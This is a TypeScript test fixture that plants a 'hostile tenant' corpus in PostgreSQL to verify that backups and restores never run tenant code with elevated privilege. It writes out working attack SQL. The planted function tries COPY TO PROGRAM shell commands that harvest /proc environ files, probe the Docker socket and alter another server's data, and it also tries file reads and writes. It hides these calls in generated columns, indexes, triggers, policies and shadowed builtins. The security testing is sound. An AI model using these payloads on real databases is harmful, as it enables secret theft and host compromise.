/**
 * A hostile tenant: a non-superuser role that owns its schema (v2) or its whole database (v1) and plants
 * code everywhere Postgres evaluates it during a restore or a check — a generated column, a CHECK, a
 * DEFAULT, an expression index, a partial-index predicate, a materialized view, a trigger, a rule, a
 * SECURITY DEFINER function it owns, and functions shadowing builtins that our own SQL calls (format,
 * unnest) on a search_path that reaches them. Every object calls `evil(tag)`, which tries, in turn:
 *
 * - `COPY … TO PROGRAM` a shell that writes marker files, updates a canary row in another server over its
 *   unix socket (trust auth), copies every readable /proc/<pid>/environ and lists the Docker socket;
 * - `pg_read_file` of a host file;
 * - `COPY … TO` a file (server-side write).
 *
 * Each refused attempt (insufficient_privilege) is swallowed, so as the tenant the corpus is harmless and
 * its backup restores cleanly. Any attempt that gets through raises `ESCAPED(<tag>)`, so a restore (or a
 * check) that runs it with more privilege than the tenant's fails loudly, and what the shell did on this
 * host shows in the marker directory and the canary.
 */
import { chmod, mkdtemp, readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import pg from 'pg';
import { createFluxRoles, tenantRoleOf, tenantSchemaOf } from './fixtures.js';
import { type PgCluster, quoteIdent, quoteLiteral } from './pg.js';

/** Where an escaped command leaves its traces, and the other server it tries to reach. */
export interface Traps {
  /** World-writable directory for marker files (empty while nothing escaped). */
  marks: string;
  /** Another server with a canary row (`canary.v = 'intact'`), reachable over its socket with trust. */
  other: PgCluster;
}

export async function makeTraps(other: PgCluster): Promise<Traps> {
  const marks = await mkdtemp(path.join(tmpdir(), 'flux-hostile-marks-'));
  await chmod(marks, 0o1777);
  await other.query(`CREATE TABLE IF NOT EXISTS public.canary (v text NOT NULL)`);
  await other.query(`TRUNCATE public.canary; INSERT INTO public.canary VALUES ('intact')`);
  return { marks, other };
}

/** What an escaped command left behind: marker files and the canary's value. */
export async function trapsSprung(traps: Traps): Promise<{ markers: string[]; canary: string[] }> {
  const markers = (await readdir(traps.marks)).sort();
  const canary = (await traps.other.query<{ v: string }>('SELECT v FROM public.canary ORDER BY v')).map(
    (r) => r.v,
  );
  return { markers, canary };
}

/** The tags every corpus object carries (each names the place Postgres evaluates tenant code). */
export const HOSTILE_PLACES = [
  'generated',
  'check',
  'default',
  'expression_index',
  'partial_index',
  'matview',
  'trigger',
  'rule',
  'security_definer',
  'policy',
  'shadow_format',
  'shadow_unnest',
] as const;

function evilFunctionSql(schema: string, traps: Traps): string {
  const s = quoteIdent(schema);
  const shell = (tag: string) =>
    `touch ${traps.marks}/'||${tag}||'-program; ` +
    `psql -X -h ${traps.other.socketDir} -p ${traps.other.port} -U postgres -d postgres -c "UPDATE public.canary SET v = '||quote_literal('pwned-'||${tag})||'" && touch ${traps.marks}/'||${tag}||'-canary; ` +
    `cat /proc/[0-9]*/environ > ${traps.marks}/'||${tag}||'-environ 2>/dev/null; ` +
    `ls -l /var/run/docker.sock /run/docker.sock > ${traps.marks}/'||${tag}||'-docker 2>&1`;
  // Declared IMMUTABLE (so a generated column or an index may use it), doing its work in a VOLATILE
  // function it calls: Postgres refuses COPY in a non-volatile function's own statements only.
  return `CREATE FUNCTION ${s}.evil_impl(tag text) RETURNS int LANGUAGE plpgsql VOLATILE AS $evil$
DECLARE escaped text := '';
BEGIN
  BEGIN
    EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal('${shell('tag')}');
    escaped := escaped || ' program';
  EXCEPTION WHEN insufficient_privilege THEN NULL;
  END;
  BEGIN
    PERFORM pg_read_file('/etc/hostname');
    escaped := escaped || ' read_file';
  EXCEPTION WHEN insufficient_privilege THEN NULL;
  END;
  BEGIN
    EXECUTE 'COPY (SELECT 1) TO ' || quote_literal(${quoteLiteral(traps.marks)} || '/' || tag || '-write');
    escaped := escaped || ' write_file';
  EXCEPTION WHEN insufficient_privilege THEN NULL;
  END;
  IF escaped <> '' THEN
    RAISE EXCEPTION 'ESCAPED(%):% as %', tag, escaped, current_user;
  END IF;
  RETURN 1;
END $evil$;
CREATE FUNCTION ${s}.evil(tag text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $wrap$
BEGIN RETURN ${s}.evil_impl(tag); END $wrap$`;
}

/** The corpus inside `schema`, created by the connected (tenant) client; `shadowSchema` gets the shadows. */
async function plantCorpus(client: pg.ClientBase, schema: string, traps: Traps): Promise<void> {
  const s = quoteIdent(schema);
  await client.query(evilFunctionSql(schema, traps));
  await client.query(`
    CREATE FUNCTION ${s}.evil_definer(tag text) RETURNS int LANGUAGE sql IMMUTABLE SECURITY DEFINER
      AS $$ SELECT ${s}.evil(tag) $$;
    CREATE TABLE ${s}.gen (id int PRIMARY KEY, g int GENERATED ALWAYS AS (${s}.evil('generated') + id) STORED);
    CREATE TABLE ${s}.chk (id int PRIMARY KEY, CHECK (${s}.evil('check') = 1));
    CREATE TABLE ${s}.def (id int PRIMARY KEY, d int DEFAULT ${s}.evil('default'));
    CREATE TABLE ${s}.idx (id int PRIMARY KEY, v int NOT NULL);
    CREATE INDEX idx_expr ON ${s}.idx ((${s}.evil('expression_index') + v));
    CREATE INDEX idx_partial ON ${s}.idx (v) WHERE ${s}.evil('partial_index') = 1;
    CREATE TABLE ${s}.definer (id int PRIMARY KEY, CHECK (${s}.evil_definer('security_definer') = 1));
    CREATE TABLE ${s}.trg (id int PRIMARY KEY);
    CREATE FUNCTION ${s}.trg_fn() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN PERFORM ${s}.evil('trigger'); RETURN NEW; END $$;
    CREATE TRIGGER trg_evil BEFORE INSERT OR UPDATE ON ${s}.trg FOR EACH ROW EXECUTE FUNCTION ${s}.trg_fn();
    CREATE TABLE ${s}.rul (id int PRIMARY KEY);
    CREATE RULE rul_evil AS ON INSERT TO ${s}.rul DO ALSO SELECT ${s}.evil('rule');
    INSERT INTO ${s}.gen (id) SELECT generate_series(1, 5);
    INSERT INTO ${s}.chk SELECT generate_series(1, 4);
    INSERT INTO ${s}.def (id) SELECT generate_series(1, 3);
    INSERT INTO ${s}.idx SELECT g, g * 10 FROM generate_series(1, 6) g;
    INSERT INTO ${s}.definer SELECT generate_series(1, 2);
    INSERT INTO ${s}.trg SELECT generate_series(1, 2);
    INSERT INTO ${s}.rul SELECT generate_series(1, 2);
    CREATE MATERIALIZED VIEW ${s}.mv AS SELECT id, ${s}.evil('matview') AS x FROM ${s}.gen;
    CREATE SEQUENCE ${s}.seq START 40;
    SELECT nextval('${schema.replaceAll("'", "''")}.seq') FROM generate_series(1, 3);
  `);
}

/** Functions that shadow builtins our SQL calls, with the argument types those calls resolve to. */
async function plantShadows(client: pg.ClientBase, schema: string, evilSchema: string): Promise<void> {
  const s = quoteIdent(schema);
  const e = quoteIdent(evilSchema);
  await client.query(`
    CREATE FUNCTION ${s}.format(fmt text, a name, b name) RETURNS text LANGUAGE plpgsql AS $$
      BEGIN PERFORM ${e}.evil('shadow_format'); RETURN pg_catalog.format(fmt, a, b); END $$;
    CREATE FUNCTION ${s}.unnest(a text[], b text[]) RETURNS TABLE (s text, n text) LANGUAGE plpgsql AS $$
      BEGIN PERFORM ${e}.evil('shadow_unnest');
        RETURN QUERY SELECT x.s, x.n FROM ROWS FROM (pg_catalog.unnest(a), pg_catalog.unnest(b)) AS x(s, n); END $$;
  `);
}

export interface HostileTenant {
  projectId: string;
  schema: string;
  role: string;
  password: string;
}

async function asRole<T>(
  cluster: PgCluster,
  db: string,
  role: string,
  password: string,
  fn: (c: pg.Client) => Promise<T>,
): Promise<T> {
  const client = new pg.Client({ ...cluster.connectionConfig(db), user: role, password });
  await client.connect();
  try {
    return await fn(client);
  } finally {
    await client.end();
  }
}

/**
 * A v2 tenant on the shared database `db`: role `t_<id>_role` (LOGIN, no privilege) owning schema
 * `t_<id>_api`, which holds the corpus, created by the tenant itself, with a grant to `authenticated`.
 */
export async function seedHostileTenant(
  cluster: PgCluster,
  opts: { db: string; projectId: string; traps: Traps },
): Promise<HostileTenant> {
  const schema = tenantSchemaOf(opts.projectId);
  const role = tenantRoleOf(opts.projectId);
  const password = `pw-${opts.projectId.slice(0, 8)}`;
  await createFluxRoles(cluster, opts.db);
  await cluster.query(
    `CREATE ROLE ${quoteIdent(role)} LOGIN PASSWORD ${quoteLiteral(password)};
     GRANT ${quoteIdent(role)} TO authenticator;
     CREATE SCHEMA ${quoteIdent(schema)} AUTHORIZATION ${quoteIdent(role)};`,
    [],
    opts.db,
  );
  await asRole(cluster, opts.db, role, password, async (client) => {
    await plantCorpus(client, schema, opts.traps);
    await plantShadows(client, schema, schema);
    await client.query(`GRANT USAGE ON SCHEMA ${quoteIdent(schema)} TO authenticated;
      GRANT SELECT ON ${quoteIdent(schema)}.gen TO authenticated;
      ALTER TABLE ${quoteIdent(schema)}.def ENABLE ROW LEVEL SECURITY;
      CREATE POLICY def_read ON ${quoteIdent(schema)}.def FOR SELECT TO authenticated USING (${quoteIdent(schema)}.evil('policy') = 1);`);
  });
  return { projectId: opts.projectId, schema, role, password };
}

/**
 * A v1 dedicated project database `db` owned by a non-superuser role, which owns `public` and plants the
 * corpus there, shadows included: `public` is on every session's default search_path.
 */
export async function seedHostileProjectDb(
  cluster: PgCluster,
  opts: { db: string; role: string; traps: Traps },
): Promise<{ role: string; password: string }> {
  const password = `pw-${opts.role}`;
  await cluster.query(`CREATE ROLE ${quoteIdent(opts.role)} LOGIN PASSWORD ${quoteLiteral(password)}`);
  await cluster.query(`CREATE DATABASE ${quoteIdent(opts.db)} OWNER ${quoteIdent(opts.role)}`);
  await createFluxRoles(cluster, opts.db);
  // An extension in a schema of its own, as dedicated databases have them: the restore may not create it
  // (the superuser does, first), and its schema is then left out of the tenant's restore.
  await cluster.query(
    `CREATE SCHEMA extensions; CREATE EXTENSION citext SCHEMA extensions;
     GRANT USAGE ON SCHEMA extensions TO ${quoteIdent(opts.role)}`,
    [],
    opts.db,
  );
  await asRole(cluster, opts.db, opts.role, password, async (client) => {
    await plantCorpus(client, 'public', opts.traps);
    await plantShadows(client, 'public', 'public');
    await client.query(`CREATE TABLE public.emails (e extensions.citext PRIMARY KEY);
      INSERT INTO public.emails VALUES ('A@example.test'), ('b@example.test')`);
  });
  return { role: opts.role, password };
}
